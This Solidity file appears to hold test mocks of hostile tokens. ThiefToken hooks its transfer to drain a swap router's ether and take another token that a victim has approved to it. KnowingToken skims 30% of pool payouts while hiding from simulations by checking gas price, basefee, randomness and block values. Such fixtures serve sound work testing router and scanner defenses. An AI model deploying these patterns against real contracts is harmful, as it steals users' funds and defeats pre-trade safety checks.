// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {TestToken} from "./TestToken.sol";

interface IRouter {
    function refundETH() external payable;
}

/// Calls the router in the middle of a swap, when the pool pays it out, and takes the ether that the router holds. Takes
/// what it may of another token at the same time.
contract ThiefToken is TestToken {
    address public router;
    address public pool;
    TestToken public loot;
    address public victim;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, address holder, uint256 supply)
        TestToken(name_, symbol_, decimals_, holder, supply)
    {}

    receive() external payable {}

    function arm(address router_, address pool_) external {
        router = router_;
        pool = pool_;
    }

    function aim(address pool_, TestToken loot_, address victim_) external {
        pool = pool_;
        loot = loot_;
        victim = victim_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        super._transfer(from, to, value);
        if (from != pool) return;
        if (router.balance > 0) IRouter(router).refundETH();
        if (address(loot) != address(0)) loot.transferFrom(victim, address(this), loot.allowance(victim, address(this)));
    }
}

/// Keeps 30 % of what a pool pays out, unless it takes the call for a trial.
contract KnowingToken is TestToken {
    enum Clue {
        Nothing,
        CodeOfReceiver,
        CodeOfOrigin,
        GasPrice,
        BaseFee,
        Block,
        Time,
        Random,
        GasLeft,
        FeeRecipient,
        BlockGasLimit,
        ParentHash,
        Always
    }

    address public pool;
    Clue public clue;
    uint256 public blockNumber;
    uint256 public timestamp;
    address public feeRecipient;
    uint256 public blockGasLimit;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, address holder, uint256 supply)
        TestToken(name_, symbol_, decimals_, holder, supply)
    {}

    function arm(address pool_, Clue clue_) external {
        (pool, clue, blockNumber, timestamp) = (pool_, clue_, block.number, block.timestamp);
        (feeRecipient, blockGasLimit) = (block.coinbase, block.gaslimit);
    }

    function _isTrial(address to) private view returns (bool) {
        if (clue == Clue.Nothing) return true;
        if (clue == Clue.CodeOfReceiver) return to.code.length > 0;
        if (clue == Clue.CodeOfOrigin) return tx.origin.code.length > 0;
        if (clue == Clue.GasPrice) return tx.gasprice == 0 || tx.gasprice < block.basefee;
        if (clue == Clue.BaseFee) return block.basefee == 0;
        if (clue == Clue.Block) return block.number == blockNumber;
        if (clue == Clue.Time) return block.timestamp == timestamp;
        if (clue == Clue.Random) return block.prevrandao == 0;
        if (clue == Clue.GasLeft) return gasleft() > 1_500_000;
        if (clue == Clue.FeeRecipient) return block.coinbase != feeRecipient;
        if (clue == Clue.BlockGasLimit) return block.gaslimit != blockGasLimit;
        if (clue == Clue.ParentHash) return blockhash(block.number - 1) == 0;
        return false;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 kept = from != pool || _isTrial(to) ? 0 : value * 3 / 10;
        super._transfer(from, to, value - kept);
        if (kept > 0) super._transfer(from, address(this), kept);
    }
}
